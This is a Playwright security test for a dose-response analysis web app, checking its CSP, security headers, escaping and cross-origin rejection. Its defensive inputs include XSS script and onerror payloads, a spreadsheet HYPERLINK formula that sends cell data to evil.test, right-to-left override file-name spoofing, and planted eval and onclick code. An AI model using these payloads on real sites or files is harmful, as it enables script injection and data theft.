import { readFileSync } from 'node:fs'
import { unzipSync } from 'fflate'
import type { BrowserContext, Page } from 'playwright/test'
import { openByKey, plot, potency, table } from './support/bench.ts'
import { openPushPanel } from './support/pushing.ts'
import { leaksIn } from './support/secrets.ts'
import { expect, test } from './support/test.ts'

const DRAWERS = ['Other fits', 'Before and after', 'Compare curves', 'Plates', 'Runs', 'Policies', 'Export']

test('on every page the policy holds while plot, workers, drawers and downloads run, and hostile text stays text', async ({
  page,
  context,
  errors,
}) => {
  const violations = await watchPolicy(context)
  await expectStrictPage(page, '/')
  await expect(page.getByLabel('Analysis key')).toBeFocused()
  await uploadHostileTable(page)
  await page.getByRole('button', { name: 'Fit the curves' }).click()
  await expect(page).toHaveURL(/\/local\/tab_/)
  await expect(potency(page)).toContainText('pIC50')
  await expect(plot(page)).toBeVisible()
  await expect(table(page)).toContainText('<script>window.pwned=1</script>')
  await openEachDrawer(page)
  const files = await downloadResults(page)
  await page.goto('/')
  await page.reload()
  await expect(page.getByText(/onerror=window\.pwned/).first()).toBeVisible()

  // The report is opened from the disk by whoever gets it: it must run nothing there either.
  const report = await context.newPage()
  await report.setContent(files.report)
  await expect(report.getByText('<script>window.pwned=1</script>').first()).toBeVisible()
  expect(await report.evaluate('window.pwned')).toBeUndefined()
  expect(files.report).not.toMatch(/[\u202a-\u202e]|<script|<img/)
  expect(files.results).toContain("'=HYPERLINK")
  expect(await page.evaluate('window.pwned')).toBeUndefined()
  expect(violations).toEqual([])

  // All that would count for nothing if the policy let everything through.
  errors.allow(/Content Security Policy/)
  await page.evaluate(() => {
    // Later, for what runs inside this call is the debugger's and may do anything.
    setTimeout(() => {
      document.body.insertAdjacentHTML('beforeend', '<button onclick="window.ran = 1">planted</button>')
      document.querySelector<HTMLElement>('button[onclick]')?.click()
      document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.test/x.png' }))
      const evaluate: unknown = Reflect.get(globalThis, 'eval')
      if (typeof evaluate === 'function') evaluate('window.ran = 2')
    })
  })
  errors.allow(/EvalError|unsafe-eval/)
  await expect.poll(() => violations.toSorted()).toEqual(['img-src', 'script-src', 'script-src-attr'])
  expect(await page.evaluate('window.ran')).toBeUndefined()
})

test('an analysis under the policy: table, plot, exclusion, push panel; files and strangers get no more than they should', async ({
  page,
  context,
  stack,
  errors,
}) => {
  const violations = await watchPolicy(context)
  const answers = collectAnswers(page)
  await openByKey(page, stack.sandbox.key('mortality'))
  await expect(potency(page)).toContainText('22.9')
  await table(page).getByRole('button', { name: 'Exclude row 11', exact: true }).click()
  await openEachDrawer(page)
  const workerFile = page.workers()[0]?.url() ?? ''
  const panel = await openPushPanel(page)
  await expect(panel.getByRole('region', { name: /^First rows of / }).first()).toBeVisible()
  const { pathname } = new URL(page.url())
  await expectStrictPage(page, `${pathname}/record`)
  await expectStrictPage(page, '/guide')
  await expectStrictPage(page, pathname)
  await expect(plot(page)).toBeVisible()
  errors.allow(/404 \(Not Found\)/)
  await expectStrictPage(page, '/nowhere', 404)
  await expectStrictPage(page, '/analysis/..%2f', 404)
  expect(violations).toEqual([])
  const texts = await Promise.all(answers)
  expect(texts.length).toBeGreaterThan(20)
  expect(texts.flatMap((text) => leaksIn(text, stack.secrets))).toEqual([])

  // A worker takes its policy from its own file.
  const worker = await page.request.get(workerFile)
  expect(worker.headers()['content-security-policy']).toContain("default-src 'none'; script-src 'self'")
  const pushes = `${stack.appUrl}/api/pushes?analysisId=ana_CellMort24`
  expect((await page.request.get(pushes)).status()).toBe(200)
  const stranger = { headers: { origin: 'https://evil.test', 'sec-fetch-site': 'cross-site' } }
  expect((await page.request.get(pushes, stranger)).status()).toBe(403)
  expect((await page.request.post(stack.appUrl, stranger)).status()).toBe(403)
  expect((await page.request.delete(stack.appUrl)).status()).toBe(405)
  const rebound = await page.request.get(stack.appUrl, { headers: { host: 'rebound.evil.test' } })
  expect(rebound.status()).toBe(421)
})

/** Every violation of any page or worker of the browser, by the directive that was violated. */
async function watchPolicy(context: BrowserContext): Promise<string[]> {
  const found: string[] = []
  await context.exposeFunction('tellViolation', (directive: string) => void found.push(directive))
  await context.addInitScript(() => {
    addEventListener('securitypolicyviolation', (event) => {
      const tell: unknown = Reflect.get(globalThis, 'tellViolation')
      if (typeof tell === 'function') tell(event.effectiveDirective)
    })
  })
  return found
}

async function expectStrictPage(page: Page, path: string, status = 200): Promise<void> {
  const response = await page.goto(path)
  expect(response?.status()).toBe(status)
  const headers = response?.headers() ?? {}
  const policy = headers['content-security-policy'] ?? ''
  expect(policy).toMatch(/script-src 'self' 'nonce-[\w+/=]+' 'strict-dynamic';/)
  expect(policy).not.toContain('unsafe-eval')
  for (const held of [
    "frame-ancestors 'none'",
    "form-action 'self'",
    "object-src 'none'",
    "base-uri 'none'",
  ]) {
    expect(policy).toContain(held)
  }
  expect(headers).toMatchObject({
    'referrer-policy': 'no-referrer',
    'x-content-type-options': 'nosniff',
    'x-frame-options': 'DENY',
  })
  expect(headers['permissions-policy']).toContain('camera=()')
  expect(headers['x-request-id']).toMatch(/^[0-9a-f]{8}$/)
  expect(headers['x-powered-by']).toBeUndefined()
}

async function openEachDrawer(page: Page): Promise<void> {
  for (const name of DRAWERS) {
    const button = page.getByRole('button', { name, exact: true })
    await button.click()
    await expect(page.getByRole('region', { name, exact: true })).toContainText(/\w+ \w+/)
    await button.click()
  }
}

/** Four compounds whose names, header and file name are what an attacker would choose. */
async function uploadHostileTable(page: Page): Promise<void> {
  const names = [
    '<script>window.pwned=1</script>',
    '=HYPERLINK("https://evil.test?"&A1)',
    '\u202ecod.exe',
    '__proto__',
  ]
  const header = 'Compound\tConc. (µM)\tViability <img src=x onerror=window.pwned=1> (%)'
  const rows = names.flatMap((name, n) =>
    [0.03, 0.1, 0.3, 1, 3, 10, 30, 100].map((dose, k) => {
      const response = 100 / (1 + dose / (1 + n)) + (k % 2 === 0 ? 1.5 : -1.5)
      return [name, dose, response.toFixed(2)].join('\t')
    }),
  )
  const [chooser] = await Promise.all([
    page.waitForEvent('filechooser'),
    page.getByRole('button', { name: 'Choose file' }).click(),
  ])
  await chooser.setFiles({
    name: 'a<img src=x onerror=window.pwned=2>\u202e.tsv',
    mimeType: 'text/tab-separated-values',
    buffer: Buffer.from([header, ...rows].join('\n')),
  })
}

async function downloadResults(page: Page): Promise<{ report: string; results: string }> {
  await page.getByRole('button', { name: 'Download results' }).click()
  const panel = page.getByRole('region', { name: 'Download results' })
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    panel.getByRole('button', { name: /^Download \d files$/ }).click(),
  ])
  expect(download.suggestedFilename()).toMatch(/^[a-z0-9.-]+$/)
  const files = Object.entries(unzipSync(readFileSync(await download.path())))
  const text = (ending: string) =>
    Buffer.from(files.find(([name]) => name.endsWith(ending))?.[1] ?? []).toString('utf8')
  return { report: text('report.html'), results: text('results.csv') }
}

/** Headers and body of every answer to the page: documents, scripts, actions, routes. */
function collectAnswers(page: Page): Promise<string>[] {
  const answers: Promise<string>[] = []
  page.on('response', (response) => {
    if (!response.url().startsWith('http')) return
    const headers = JSON.stringify(response.headers())
    // Of an answer whose page has gone the body is gone too.
    const body = response.text().catch(() => '')
    answers.push(body.then((text) => `${response.url()}\n${headers}\n${text}`))
  })
  return answers
}
